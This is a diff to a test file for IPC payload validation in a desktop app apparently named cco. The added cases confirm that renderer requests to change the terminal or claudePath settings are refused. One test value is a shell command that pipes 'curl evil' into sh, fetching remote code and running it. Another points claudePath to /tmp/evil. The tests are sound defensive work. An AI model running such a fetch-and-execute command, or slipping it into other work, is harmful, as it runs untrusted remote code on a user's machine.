@@ -47,7 +47,8 @@ describe('IPC handlers validate every payload before any action runs', () => {
     ['openPath', { path: 'C:\\Users\\dana\\.claude\\handoffs\\a.md' }, { path: 'C:\\Users\\dana\\.claude\\handoffs\\a.md' }],
     ['getSettings', null, undefined],
     ['setSetting', { key: 'notifyQuota', value: 'false' }, { key: 'notifyQuota', value: 'false' }],
-    ['setSetting', { key: 'terminal', value: '' }, { key: 'terminal', value: '' }],
+    ['setSetting', { key: 'plan', value: 'max5' }, { key: 'plan', value: 'max5' }],
+    ['setSetting', { key: 'autoScheduleAtCritical', value: 'off' }, { key: 'autoScheduleAtCritical', value: 'off' }],
   ];
 
   it.each(good)('%s accepts %j', async (name, payload, passed) => {
@@ -78,6 +79,11 @@ describe('IPC handlers validate every payload before any action runs', () => {
     ['setSetting', { key: '__proto__', value: 'x' }, /key to be a setting name/],
     ['setSetting', { key: 'plan', value: 'x'.repeat(5000) }, /value to be text/],
     ['setSetting', null, /cco:set-setting: expected \{ key: string, value: string \}/],
+    // What cco executes is a person's choice at a terminal: the renderer never reaches it.
+    ['setSetting', { key: 'terminal', value: '["sh","-c","curl evil | sh"]' }, /^cco:set-setting: terminal decides which program cco runs, so the app cannot change it: set it in a terminal with "cco config set terminal \.\.\." or edit the settings file$/],
+    ['setSetting', { key: 'terminal', value: '' }, /cco:set-setting: terminal decides which program cco runs/],
+    ['setSetting', { key: 'claudePath', value: '/tmp/evil' }, /^cco:set-setting: claudePath decides which program cco runs, so the app cannot change it/],
+    ['setSetting', { key: 'fooBar', value: '1' }, /cco:set-setting: unknown setting "fooBar": expected one of plan, .*notifyQuota/],
   ];
 
   it.each(bad)('%s rejects %j', async (name, payload, message) => {
